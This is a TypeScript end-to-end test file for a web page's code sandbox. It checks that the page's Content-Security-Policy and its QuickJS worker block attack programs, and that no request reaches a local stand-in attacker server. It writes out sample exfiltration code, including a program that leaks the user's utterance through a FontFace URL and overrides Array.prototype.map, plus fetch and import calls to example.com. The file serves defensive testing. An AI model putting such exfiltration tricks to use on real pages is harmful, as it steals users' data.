// The affordance sandbox in the built page (issue #13): the page's Content-Security-Policy blocks remote code,
// fonts and connections; the page's own sandbox worker (QuickJS in wasm) withstands every attack of
// tests/fixtures/sandbox-attacks.ts, with the innocent program's answer unchanged after each; and a person who
// pastes an exfiltrating program into the editor sees it denied while the attacker's server hears nothing.
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openApp, typeInto, type AppSession } from './harness';
import { ATTACK_SCREEN, INNOCENT, SANDBOX_ATTACKS } from '../fixtures/sandbox-attacks';
import { makeEnv } from '../../src/webnav/tasks/index';
import { checkResponse, type SandboxRequest } from '../../src/webnav/affordance/sandbox-core';
import type { RunResult } from '../../src/webnav/affordance/program';

let app: AppSession;
let attacker: http.Server;
let base = '';
const hits: string[] = [];

beforeAll(async () => {
  attacker = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    res.end('export default 1;');
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  app = await openApp({ tab: 'webnav', webgpu: false });
  await app.page.waitForSelector('[data-testid=webnav-affordances]');
});
afterAll(async () => {
  await app?.close();
  await new Promise((r) => attacker?.close(r));
});

describe('affordance sandbox in the page', () => {
  test('the page sends a Content-Security-Policy that blocks remote scripts, fonts and connections', async () => {
    // A string, so that the test runner does not rewrite the page's import().
    const violations = (await app.page.evaluate(`(async () => {
      const seen = [];
      document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective + ' ' + e.blockedURI));
      await fetch('https://example.com/leak?x=1').catch(() => undefined);
      await new FontFace('x', 'url(https://example.com/font.woff2)').load().catch(() => undefined);
      await import('https://example.com/mod.js').catch(() => undefined);
      await new Promise((r) => setTimeout(r, 200));
      return seen;
    })()`)) as string[];
    expect(violations).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^connect-src https:\/\/example\.com\/leak/),
        expect.stringMatching(/^font-src https:\/\/example\.com\/font/),
        expect.stringMatching(/^script-src(-elem)? https:\/\/example\.com\/mod/),
      ]),
    );
  });

  test("every attack fails to escape the page's sandbox worker, and the next program is unaffected", async () => {
    const worker = fs.readdirSync('dist/assets').find((f) => /^affordance-sandbox\.worker-.*\.js$/.test(f));
    expect(worker).toBeDefined();
    // QuickJS's wasm is an asset of the app (this machine has no internet: the worker below could not fetch it).
    expect(fs.readdirSync('dist/assets').filter((f) => /^emscripten-module-.*\.wasm$/.test(f))).toHaveLength(1);
    const obs = makeEnv(ATTACK_SCREEN.task).reset(ATTACK_SCREEN.seed);
    // The built worker, started the way the page starts it; the screen is sent into the page once.
    await app.page.evaluate(
      async (url, pixels, width, height, utterance) => {
        const w = new Worker(url, { type: 'module', name: 'affordance-sandbox' });
        await new Promise<void>((r) => w.addEventListener('message', (e) => e.data === 'ready' && r()));
        (window as unknown as { sandboxTest: unknown }).sandboxTest = {
          w,
          screen: { pixels: new Uint8ClampedArray(pixels), width, height, utterance },
        };
      },
      new URL(`assets/${worker}`, app.url).href,
      Array.from(obs.pixels),
      obs.width,
      obs.height,
      obs.utterance,
    );
    let nextId = 1;
    const run = async (source: string, timeLimitMs: number): Promise<RunResult> => {
      const req: Omit<SandboxRequest, 'screens'> = { id: nextId++, source: source.replaceAll('ATTACKER', base), timeLimitMs };
      const answer = await app.page.evaluate(
        (r, waitMs) =>
          new Promise<unknown>((resolve) => {
            const { w, screen } = (window as unknown as { sandboxTest: { w: Worker; screen: unknown } }).sandboxTest;
            const timer = setTimeout(() => resolve('no answer'), waitMs);
            const on = (e: MessageEvent) => {
              if ((e.data as { id?: number })?.id !== r.id) return;
              clearTimeout(timer);
              w.removeEventListener('message', on);
              resolve(e.data);
            };
            w.addEventListener('message', on);
            w.postMessage({ ...r, screens: [screen] });
          }),
        req,
        timeLimitMs + 10_000,
      );
      // The host's own check of the worker's answer, as WatchdogSandbox does it.
      const res = checkResponse(answer, { id: req.id, screens: [obs] });
      if (!('id' in res)) return { ok: false, error: res };
      return res.compileError ? { ok: false, error: res.compileError } : res.results[0];
    };
    const innocent = await run(INNOCENT, 2000);
    expect(innocent.ok && innocent.actions.length).toBeGreaterThan(1);
    const report: string[] = [];
    for (const attack of SANDBOX_ATTACKS) {
      const r = await run(attack.source, attack.slow ? 8000 : 1000);
      const ok =
        attack.expect === 'ok'
          ? r.ok
          : !r.ok && attack.expect.includes(r.error.kind) && (!attack.message || attack.message.test(r.error.message));
      const after = await run(INNOCENT, 2000);
      const same = JSON.stringify(after.ok && after.actions) === JSON.stringify(innocent.ok && innocent.actions);
      if (!ok || !same)
        report.push(`${attack.name}: ${JSON.stringify(r)}${same ? '' : ` then the innocent program gave ${JSON.stringify(after)}`}`);
    }
    expect(report).toEqual([]);
    await new Promise((r) => setTimeout(r, 300));
    expect(hits).toEqual([]);
    await app.page.evaluate(() => (window as unknown as { sandboxTest: { w: Worker } }).sandboxTest.w.terminate());
  });

  test('a person pastes an exfiltrating program, sees it denied, and the attacker hears nothing', async () => {
    const editor = '[data-testid=affordance-editor] .cm-content';
    await typeInto(
      app.page,
      editor,
      `function affordances(screen, utterance, lib) {\n  Array.prototype.map = () => [{ type: 'click', x: 9999, y: 0 }];\n  new FontFace('x', 'url(${base}/font?leak=' + encodeURIComponent(utterance) + ')').load();\n  return [];\n}`,
    );
    await app.page.click('[data-testid=affordance-run]');
    const err = await app.waitForText('[data-testid=affordance-error]', 'FontFace', 30_000);
    expect(err).toMatch(/affordance\.js:3:\d+: denied error: .*FontFace is not available in the affordance sandbox/);
    await typeInto(app.page, editor, INNOCENT);
    await app.page.click('[data-testid=affordance-run]');
    await app.waitForText('[data-testid=affordance-status]', /\d+ actions? on the screen shown/, 30_000);
    expect(await app.text('[data-testid=affordance-actions]')).toMatch(/click\(3, 60\)/);
    await app.screenshot('webnav-sandbox-denied');
    expect(hits).toEqual([]);
    expect(app.errors.filter((e) => !/favicon|example\.com|Content Security Policy/.test(e))).toEqual([]);
    // No console error names a CSP violation other than the three this file provoked on purpose.
    expect(app.errors.filter((e) => /Content Security Policy/.test(e) && !/example\.com/.test(e))).toEqual([]);
  });
});
